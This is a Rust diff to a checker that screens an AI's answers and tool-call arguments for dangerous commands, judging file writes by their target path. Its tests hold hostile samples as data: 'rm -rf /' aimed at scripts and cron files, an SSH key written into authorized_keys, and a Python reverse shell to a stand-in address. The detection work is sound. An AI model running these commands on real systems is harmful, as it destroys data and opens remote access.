@@ -1,11 +1,12 @@
 //! Commands and code in the answer, and in the arguments of calls, that should run nowhere.
 
 use super::checks::{Caller, Check, ChecksError, Files, Made, Request};
-use super::danger::{Grade, LONGEST, Quoted, Variables, carried, danger, is_triggered, lines};
+use super::danger::{Danger, Grade, LONGEST, Quoted, Variables, carried, danger, is_triggered, lines};
 use super::findings::Findings;
 use super::judgement::Reason;
 use super::policy::{Mode, Policy};
 use super::stream::{Kinds, Reader, Seen, Step, Tail};
+use super::written::Written;
 use crate::exchange::ToolCall;
 use bartizan_core::{Severity, atlas, cwe, owasp_agentic, owasp_llm, rule};
 use schemars::JsonSchema;
@@ -109,11 +110,16 @@ fn reason(
     span: Range<usize>,
 ) -> Option<Reason> {
     let found = danger(line, variables)?;
+    let mode = if found.grade == Grade::Grave { grave } else { serious };
+    (mode != Mode::Off).then(|| of_danger(found, (grave, serious), pointer, span))
+}
+
+fn of_danger(found: Danger, (grave, serious): (Mode, Mode), pointer: &str, span: Range<usize>) -> Reason {
     let (mode, called) = match found.grade {
         Grade::Grave => (grave, "grave"),
         Grade::Serious => (serious, "serious"),
     };
-    (mode != Mode::Off).then(|| Reason {
+    Reason {
         check: DANGEROUS_CODE.id,
         label: found.label.to_owned(),
         score: if found.grade == Grade::Grave { 0.9 } else { 0.6 },
@@ -121,15 +127,20 @@ fn reason(
         pointer: pointer.to_owned(),
         span,
         message: format!("a line that {} ({called})", found.label.replace('-', " ")),
-    })
+    }
 }
 
 impl Caller for DangerousCode {
     fn call(&self, call: &ToolCall<'_>, findings: &mut Findings) {
         let (mut variables, modes) =
             (Variables::default(), (self.policy.grave_in_calls, self.policy.serious_in_calls));
+        let written = Written::of(&call.arguments);
+        if let Some(found) = written.as_ref().and_then(Written::stays).filter(|_| modes.1 != Mode::Off) {
+            findings.reason(of_danger(found, modes, &call.pointer, 0..call.arguments.len()));
+        }
         // A shell reads on behind a backslash at the end of a line, and in quotes.
         for text in super::answer::texts_of(&call.arguments) {
+            let modes = written.as_ref().map_or(modes, |written| written.modes(&text, modes));
             variables.forget_surroundings();
             for line in lines(&text.replace("\\\n", " ")) {
                 let span = 0..call.arguments.len();
@@ -327,6 +338,44 @@ mod tests {
         let checks = checks("[code]\ngrave = 'block'");
         let mut judge = checks.answer(&exchange(&[]), &Session::new([0; 32]));
         [in_call.action == Action::Block, streamed(&mut judge, &format!("{text}\n"), &[7]).2.is_some()]
+    }
+
+    #[test]
+    fn what_is_written_into_a_file_is_judged_by_what_the_file_is() {
+        let checks = checks(OFFERED);
+        let action = |arguments: serde_json::Value| {
+            let made = call("write_file", &arguments.to_string());
+            checks.answer(&exchange(&[]), &Session::new([0; 32])).call(&made.calls[0]).action
+        };
+        let text = "Never run `rm -rf /`.\nrm -rf /\n";
+        for (path, expected) in [
+            ("docs/security.md", Action::Allow),
+            ("tests/test_guard.py", Action::Flag),
+            ("rules.yaml", Action::Flag),
+            ("run.sh", Action::Block),
+            ("Makefile", Action::Block),
+            ("/etc/cron.d/x", Action::Block),
+        ] {
+            assert_eq!(action(serde_json::json!({"path": path, "content": text})), expected, "{path}");
+        }
+        // What runs is judged as before, whatever stands beside it.
+        for arguments in [
+            serde_json::json!({"path": "a.md", "command": "rm -rf /"}),
+            serde_json::json!({"path": "a.md", "content": "x", "then": "rm -rf /"}),
+            serde_json::json!({"path": "a.md", "content": "rm -rf /", "command": "rm -rf /"}),
+        ] {
+            assert_eq!(action(arguments.clone()), Action::Block, "{arguments}");
+        }
+        let key =
+            serde_json::json!({"path": "/home/dev/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA x"});
+        assert_eq!(action(key), Action::Flag);
+    }
+
+    #[test]
+    fn a_shell_on_a_socket_is_told_over_several_lines() {
+        let text = "import socket,subprocess,os\ns=socket.socket();s.connect((\"203.0.113.9\",4444))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\nsubprocess.call([\"/bin/sh\",\"-i\"])";
+        assert_eq!(both(text), [true; 2]);
+        assert_eq!(both("os.dup2(log.fileno(), 1)\nsubprocess.call([\"make\"])"), [false; 2]);
     }
 
     #[test]
